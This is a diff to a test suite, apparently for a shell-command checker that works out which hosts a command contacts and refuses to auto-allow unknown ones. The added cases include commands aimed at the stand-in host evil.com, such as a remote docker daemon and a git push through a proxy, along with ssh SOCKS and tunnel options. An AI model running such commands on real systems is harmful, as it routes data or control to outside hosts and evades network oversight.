@@ -101,6 +101,9 @@ describe('network programs reach the hosts they name (G14c)', () => {
     ['docker login evil.com', ['evil.com']],
     ['docker pull ubuntu', ['docker.io']],
     ['tar -cf evil.com:/tmp/a.tar .', ['evil.com']],
+    ['docker -H tcp://evil.com:2375 ps', ['tcp://evil.com:2375']],
+    ['DOCKER_HOST=tcp://evil.com:2375 docker ps', ['tcp://evil.com:2375']],
+    ['git -c http.proxy=http://evil.com push origin main', ['http://evil.com']],
   ])('`%s` is networkEgress with %j', (command, hosts) => {
     expect(egress(command)).toEqual([{ hosts }]);
   });
@@ -158,6 +161,9 @@ describe('network programs reach the hosts they name (G14c)', () => {
     'curl -K cfg https://allowed.com',
     'nc --frobnicate allowed.com 80',
     'openssl ocsp -issuer c.pem',
+    'ssh -D 1080 allowed.com',
+    'ssh -w 0:0 allowed.com',
+    'DOCKER_CONTEXT=remote docker ps',
   ])('`%s` reaches hosts that are not known: no allow applies (G18)', (command) => {
     expect(decide(command).decision).not.toBe('allow');
   });
